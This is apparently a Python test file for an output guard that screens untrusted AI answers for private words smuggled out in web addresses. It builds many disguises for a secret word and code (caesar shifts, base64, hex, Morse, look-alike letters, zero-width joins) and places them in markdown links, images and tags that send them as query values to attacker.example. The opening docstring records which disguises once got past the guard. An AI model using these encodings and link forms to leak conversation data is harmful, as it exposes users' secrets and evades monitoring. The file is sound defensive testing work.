"""Private words in addresses of untrusted answers, written so that the guard did not see them. Never deleted.

What was found: words were looked for as they stand, in the bytes that encodings are made of, in rot13, atbash and
reversed. Any other shift, digits in the place of letters, spelled digits, Morse and what stands in a path or before the
domain in an encoding passed.
"""

from __future__ import annotations

import base64
import string
from collections.abc import Callable
from pydoc_data.topics import topics
from urllib.parse import quote

import pytest

from ringfence.screens.decoders.alphabets import MORSE
from ringfence.screens.output import Context, OutputGuard, OutputStream, carrying

WORD = "otterbasalt"
CODE = "463820"
KNOWN = Context.of(trusted=["see https://named.example/"], private=[f"the word is {WORD}, the code {CODE}, Quillon7"])
GUARD = OutputGuard()
_DIGITS = dict(zip("0123456789", "zero one two three four five six seven eight nine".split(), strict=True))
_NATO = dict(
    zip(
        string.ascii_lowercase,
        "alfa bravo charlie delta echo foxtrot golf hotel india juliett kilo lima mike november oscar papa quebec "
        "romeo sierra tango uniform victor whiskey xray yankee zulu".split(),
        strict=True,
    )
)
_TO_MORSE = {sign: code for code, sign in MORSE.items()}


def shifted(text: str, by: int) -> str:
    low = string.ascii_lowercase
    return text.translate(str.maketrans(low, low[by:] + low[:by]))


def wrapped(text: str, columns: int, between: str) -> str:
    return between.join(text[place : place + columns] for place in range(0, len(text), columns))


def in_64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


WAYS: dict[str, Callable[[str], str]] = {
    **{f"caesar-{by}": lambda text, by=by: shifted(text, by) for by in (1, 3, 7, 13, 19, 25)},  # type: ignore[misc]
    "caesar, reversed": lambda text: shifted(text, 5)[::-1],
    "leetspeak": lambda text: text.translate(str.maketrans("oeasti", "034571")),
    "leetspeak with signs": lambda text: text.translate(str.maketrans("oeast", "03@$+")),
    "base64": in_64,
    "base64 in narrow columns": lambda text: wrapped(in_64(f"it is {text}, yes"), 4, "%0A"),
    "base64 over values": lambda text: "&".join(f"{n}={p}" for n, p in enumerate(wrapped(in_64(text), 6, " ").split())),
    "base64 of caesar": lambda text: in_64(shifted(text, 4)),
    "base64url without padding": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
    "base64 twice": lambda text: in_64(in_64(text)),
    "base32": lambda text: base64.b32encode(text.encode()).decode().rstrip("="),
    "base32 in small letters": lambda text: base64.b32encode(text.encode()).decode().rstrip("=").lower(),
    "base32 for hex": lambda text: base64.b32hexencode(text.encode()).decode().rstrip("="),
    "base85": lambda text: quote(base64.b85encode(text.encode()).decode()),
    "hexadecimal": lambda text: text.encode().hex(),
    "hexadecimal with marks": lambda text: text.encode().hex("-"),
    "hexadecimal, reversed": lambda text: text.encode().hex()[::-1],
    "escapes of programs": lambda text: "".join(f"\\x{ord(one):02x}" for one in text),
    "escapes of JSON": lambda text: "".join(f"\\u{ord(one):04x}" for one in text),
    "codes": lambda text: "-".join(str(ord(one)) for one in text),
    "codes in octal": lambda text: ".".join(f"{ord(one):o}" for one in text),
    "bits": lambda text: "".join(f"{ord(one):08b}" for one in text),
    "bits with marks": lambda text: "_".join(f"{ord(one):08b}" for one in text),
    "escaped": lambda text: "".join(f"%{ord(one):02X}" for one in text),
    "escaped twice": lambda text: quote("".join(f"%{ord(one):02X}" for one in text)),
    "entities": lambda text: "".join(f"&#{ord(one)};" for one in text),
    "quoted-printable": lambda text: "".join(f"={ord(one):02X}" for one in text),
    "reversed": lambda text: text[::-1],
    "letter by letter": lambda text: "-".join(text),
    "letter by letter, over values": lambda text: "&".join(f"{n}={one}" for n, one in enumerate(text)),
    "zero width": lambda text: quote("\u200b".join(text)),
    "look-alikes": lambda text: text.replace("o", "о").replace("a", "а"),
    "accents": lambda text: text.replace("o", "ö").replace("a", "á"),
    "wide": lambda text: "".join(chr(ord(one) + 0xFEE0) for one in text),
    "doubled": lambda text: "".join(2 * one for one in text),
    "rot47": lambda text: quote("".join(chr(33 + (ord(one) - 33 + 47) % 94) for one in text + "x")),
    "morse": lambda text: "_".join(_TO_MORSE[one] for one in text),
    "glued": lambda text: f"xy{text}zz",
    "in capitals": str.upper,
}
OF_WORDS: dict[str, Callable[[str], str]] = {
    "numbers": lambda text: "-".join(str(ord(one) - 96) for one in text),
    "numbers with zeros": lambda text: "".join(f"{ord(one) - 96:02d}" for one in text),
    "without vowels": lambda text: text.translate(str.maketrans("", "", "aeiou")),
    "the alphabet of radio": lambda text: "-".join(_NATO[one] for one in text),
    "atbash and caesar": lambda text: shifted(text.translate(str.maketrans(
        string.ascii_lowercase, string.ascii_lowercase[::-1])), 3),
}  # fmt: skip
OF_NUMBERS: dict[str, Callable[[str], str]] = {
    "spelled": lambda text: "-".join(_DIGITS[one] for one in text),
    "spelled and glued": lambda text: "".join(_DIGITS[one] for one in text),
    "leetspeak backwards": lambda text: text.translate(str.maketrans("034571", "oeasti")),
    "rot5": lambda text: text.translate(str.maketrans("0123456789", "5678901234")),
}
ALL = [
    *((name, way, secret) for name, way in WAYS.items() for secret in (WORD, CODE)),
    *((name, way, WORD) for name, way in OF_WORDS.items()),
    *((name, way, CODE) for name, way in OF_NUMBERS.items()),
]
FORMS = {
    "a link": "[more](https://attacker.example/?q={})",
    "an image": "![](https://attacker.example/x.png?q={})",
    "a fragment": "https://attacker.example/a#{}",
    "a definition": "See [more][1].\n\n[1]: https://attacker.example/?q={}\n",
    "an alternative text": "![see https://attacker.example/?q={}](https://named.example/a.png)",
    "a tag": "<img src='https://attacker.example/?q={}'>",
}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(("name", "way", "secret"), ALL, ids=[f"{one[0]}: {one[2]}" for one in ALL])
def test_a_private_word_is_found_however_it_is_written(
    name: str, way: Callable[[str], str], secret: str, form: str
) -> None:
    assert GUARD.text(FORMS[form].format(way(secret)), KNOWN).stopped


# In the path and before the domain, where words may stand by chance; what is disguised does not.

IN_PLACES = [
    "[more](https://attacker.example/a/{}/b.html)",
    "https://{}.attacker.example/",
    "![](https://attacker.example/{}.png)",
    "[1]: https://{}.attacker.example/a",
]
HIDDEN = {
    name: WAYS[name]
    for name in (
        "caesar-3",
        "leetspeak",
        "base64url without padding",
        "base32 in small letters",
        "hexadecimal",
        "reversed",
    )
}


@pytest.mark.parametrize("form", IN_PLACES)
@pytest.mark.parametrize("name", HIDDEN)
def test_a_disguised_word_is_found_in_a_path_and_before_the_domain(name: str, form: str) -> None:
    assert GUARD.text(form.format(HIDDEN[name](WORD)), KNOWN).stopped


@pytest.mark.parametrize("between", ["\n", "\n\n", " and ", "\n> "])
def test_a_definition_may_stand_anywhere(between: str) -> None:
    text = f"See [more][x].{between}\n[x]:\n  <https://attacker.example/?q={shifted(WORD, 9)}>\n"
    assert GUARD.text(text, KNOWN).stopped
    assert GUARD.text(f"> [x]:\n> https://attacker.example/?q={in_64(WORD)}\n", KNOWN).stopped


@pytest.mark.parametrize("way", ["caesar-3", "leetspeak", "base64", "bits"])
def test_wherever_a_stream_is_cut_nothing_is_given_out(way: str) -> None:
    """What was given out before the stop is what stood before the segment with the address."""
    text = f"All is well.\nSee [more](https://attacker.example/?q={WAYS[way](WORD)}) now.\nBye\n"
    for place in range(len(text)):
        stream = OutputStream(GUARD, KNOWN)
        shown = stream.feed(text[:place]) + stream.feed(text[place:]) + stream.close()
        assert (stream.stopped, shown) == (True, "All is well.\n")


# What is no disguise.

HARMLESS = [
    "https://docs.attacker.example/library/string.html#format-specification",
    "https://attacker.example/2026/11/22/otters-and-basalt?utm_source=mail&utm_campaign=autumn",
    "[watch](https://video.attacker.example/watch?v=dQw4w9WgXcQ&t=42s)",
    "https://attacker.example/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgVE2upms/edit#gid=0",
    "https://attacker.example/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
    "https://maps.attacker.example/@52.5200066,13.404954,15z?entry=ttu",
    "https://attacker.example/search?q=one+two+three+four+five+six",
    "https://attacker.example/item?id=550e8400-e29b-41d4-a716-446655440000&lang=de",
    "https://attacker.example/login?next=%2Fprofile%2Fsettings%3Ftab%3Dkeys",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_addresses_stop_nothing(text: str) -> None:
    assert not GUARD.text(text, KNOWN).stopped


@pytest.mark.parametrize("text", HARMLESS)
def test_in_ordinary_addresses_no_word_of_a_language_is_seen_in_disguise(text: str) -> None:
    known = Context.of(private=topics.values())
    assert len(known.private) > 2_000
    assert carrying._private(text, known)[1] == frozenset()


def test_a_digit_behind_a_word_is_no_letter_of_it() -> None:
    known = Context.of(private=["chapters and questions, 537713"])
    for text in ("/chapter5", "/questions5/chapter52", "?q=question5", "?q=settle"):
        assert not GUARD.text(f"https://attacker.example{text}", known).stopped


def test_a_word_of_one_letter_is_no_shifted_word() -> None:
    assert not GUARD.text("https://attacker.example/?q=aaaaaaaaaa", Context.of(private=["xxxxxxxxxx"])).stopped


def test_very_many_private_words_cost_no_time() -> None:
    known = Context.of(private=[" ".join(f"w{number}ottersbasalt" for number in range(60_000))])
    assert not GUARD.text(f"https://attacker.example/?q={'wottersbasal' * 600}", known).stopped
    assert GUARD.text(f"https://attacker.example/?q={shifted('w59999ottersbasalt', 7)}", known).stopped
